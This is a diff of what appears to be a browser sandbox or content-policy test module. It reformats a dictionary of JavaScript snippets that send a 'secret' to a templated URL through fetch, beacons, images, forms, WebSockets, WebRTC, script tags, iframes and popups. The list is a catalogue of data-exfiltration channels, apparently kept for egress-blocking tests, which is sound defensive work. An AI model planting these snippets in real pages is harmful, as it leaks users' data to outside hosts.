@@ -20,8 +20,8 @@ PAGE_VECTORS = {
     "fetch": "fetch('{url}/fetch?secret', {{ mode: 'no-cors' }})",
     "beacon": "navigator.sendBeacon('{url}/beacon', 'secret')",
     "image": "new Image().src = '{url}/image?secret'",
-    "form": """(() => {{ const form = document.createElement('form'); form.action = '{url}/form'; form.method = 'post';
-                 document.body.append(form); form.submit(); }})()""",
+    "form": """(() => {{ const form = document.createElement('form'); form.action = '{url}/form';
+                 form.method = 'post'; document.body.append(form); form.submit(); }})()""",
     "navigation": "location.href = '{url}/navigation?secret'",
     "websocket": "new WebSocket('{url}/socket?secret'.replace('http', 'ws'))",
     "webrtc": """(async () => {{
@@ -29,14 +29,14 @@ PAGE_VECTORS = {
         peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); }})()""",
     "preconnect": """(() => {{ const link = document.createElement('link'); link.rel = 'preconnect';
                  link.href = '{url}'; document.head.append(link); }})()""",
-    "script": """(() => {{ const script = document.createElement('script'); script.src = '{url}/script?secret';
-                 document.head.append(script); }})()""",
+    "script": """(() => {{ const script = document.createElement('script');
+                 script.src = '{url}/script?secret'; document.head.append(script); }})()""",
     "frame": """(() => {{ const frame = document.createElement('iframe'); frame.src = '{url}/frame?secret';
                  document.body.append(frame); }})()""",
     "popup": "window.open('{url}/popup?secret')",
 }
 
-#: WebRTC sends nothing from some sandboxes even when allowed, and preconnect is a hint that a browser may ignore.
+#: WebRTC sends nothing from some sandboxes even when allowed; preconnect is a hint that a browser may ignore.
 UNCERTAIN_WITHOUT_POLICY = {"webrtc", "preconnect"}
 
 
